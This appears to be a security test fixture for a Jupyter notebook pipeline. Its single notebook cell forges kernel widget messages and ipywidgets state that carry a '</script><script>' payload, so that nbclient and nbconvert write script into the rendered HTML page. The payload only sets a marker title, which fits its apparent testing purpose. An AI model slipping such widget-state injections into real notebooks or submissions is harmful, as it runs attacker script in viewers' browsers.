"""Leaves widget state with script in it, which nbclient writes into the notebook and nbconvert into the page."""

TRACE = "PWNED_widget"

CELLS = {
    "estep": r"""
import numpy as np


def estep(X, mixture):
    return np.zeros((len(X), len(mixture.p))), 0.0


kernel = get_ipython().kernel


def publish(kind, content, parent=None, **more):
    parent = kernel.get_parent("shell") if parent is None else parent
    kernel.session.send(kernel.iopub_socket, kind, content, parent=parent, ident=kind.encode(), **more)


def later(count=60):
    header = kernel.get_parent("shell")["header"]
    start, _, number = header["msg_id"].rpartition("_")
    for step in range(1, count):
        yield {"header": header | {"msg_id": f"{start}_{int(number) + step}"}}


mark = "PWN" + "ED_widget"
evil = f"</script><script>document.title = '{mark}'</script>"
state = {"_model_module": "@jupyter-widgets/controls", "_model_name": "HTMLModel", "_model_module_version": "2.0.0"}
state |= {"_view_module": evil, "_view_name": "HTMLView", "value": evil, "layout": "IPY_MODEL_x", evil: evil}
for identity in ("one", evil):
    data = {"state": state, "buffer_paths": []}
    opening = {"comm_id": identity, "target_name": "jupyter.widget", "data": data}
    publish("comm_open", opening, metadata={"version": "2.1.0"})
    publish("comm_msg", {"comm_id": identity, "data": {"method": "update", "state": {"value": evil * 100}}})
    view = {"model_id": identity, "version_major": 2, "version_minor": 0}
    kind = "application/vnd.jupyter.widget-view+json"
    publish("display_data", {"data": {kind: view, "text/plain": "widget"}, "metadata": {}})
try:
    import ipywidgets

    box = ipywidgets.HTML(evil)
    box.value = evil * 2
except ImportError:
    pass
""",
}
